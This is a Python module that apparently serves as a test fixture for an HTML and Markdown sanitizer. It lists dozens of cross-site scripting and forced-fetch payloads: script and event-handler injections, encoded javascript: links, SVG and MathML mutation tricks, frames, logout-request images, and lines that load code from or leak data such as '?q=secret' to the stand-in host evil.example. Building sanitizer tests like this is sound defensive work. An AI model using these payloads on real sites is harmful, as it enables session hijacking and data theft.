"""Texts that try to run something or to make the page fetch something."""

from __future__ import annotations

import base64

RUN = "window.__xss=1"
ENTITY = "".join(f"&#{ord(letter)};" for letter in "javascript:window.__xss=1")
HEX = "".join(f"&#x{ord(letter):x}" for letter in "javascript:window.__xss=1")
DATA = base64.b64encode(b"<script>parent.window.__xss=1</script>").decode()

SCRIPTS = [
    f"<script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0d\x0a>{RUN}</script >",
    f"<script type=module>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'"><script>{RUN}</script>',
    f"</script><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" loading=eager>',
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=# onmouseover={RUN} style=position:fixed;inset:0>x</a>",
    f"<div onpointerenter={RUN} style=position:fixed;inset:0>x</div>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
]
FOREIGN = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><set attributeName="href" to="javascript:{RUN}"/></svg>',
    "<svg><image href=https://evil.example/svg.png /></svg>",
    "<svg><use href=https://evil.example/x.svg#a /></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<math href="javascript:{RUN}">x</math>',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style>"
    f"<img onerror={RUN} src>",
]
FRAMES = [
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=https://evil.example/frame></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<object data=https://evil.example/object></object>",
    "<embed src=https://evil.example/embed>",
    "<frameset><frame src=https://evil.example/f></frameset>",
    "<portal src=https://evil.example/portal></portal>",
]
FETCHES = [
    "<img src=https://evil.example/a.png>",
    "<img src=//evil.example/b.png>",
    "<img srcset='https://evil.example/c.png 1x'>",
    "<img src=/accounts/logout/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/prefetch>",
    "<link rel=dns-prefetch href=https://evil.example>",
    "<link rel=preconnect href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/i.css';</style>",
    "<style>body{background:url(https://evil.example/bg)}</style>",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<table background=https://evil.example/t><tr><td>x</table>",
    "<video poster=https://evil.example/poster src=https://evil.example/v></video>",
    "<form action=https://evil.example/form><input type=submit></form>",
    "<input type=image src=https://evil.example/i>",
    "<a href=/ ping=https://evil.example/ping>x</a>",
]
MARKDOWN = [
    "![a](https://evil.example/?q=secret)",
    "![a](//evil.example/x.png)",
    "![a](/accounts/logout/)",
    "![a](../accounts/logout/ 'title')",
    "![a][ref]\n\n[ref]: https://evil.example/ref.png",
    "[![a](https://evil.example/in.png)](https://evil.example/out)",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    f'![a](x "onerror={RUN}")',
    f'![a"onerror="{RUN}](https://evil.example/q.png)',
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](  javascript:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](java&Tab;script:{RUN})",
    f"[x](java&NewLine;script&colon;{RUN})",
    f"[x]({ENTITY})",
    f"[x]({HEX})",
    f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html;base64,{DATA})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x][evil]\n\n[evil]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f'[x](https://example.org "\\" onmouseover=\\"{RUN}")',
    f'[x](https://example.org/"onmouseover="{RUN})',
    "[x](/accounts/logout/)",
    "[x](//evil.example/scheme-relative)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    f"```<img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```",
    f'```"onmouseover="{RUN}\nx\n```',
    f"```html\n<img src=x onerror={RUN}>\n```",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"> - <svg onload={RUN}>",
    f"**<b onclick={RUN} class=horizon id=draft name=sockets>x</b>**",
]
ALL = [*SCRIPTS, *HANDLERS, *FOREIGN, *FRAMES, *FETCHES, *MARKDOWN]
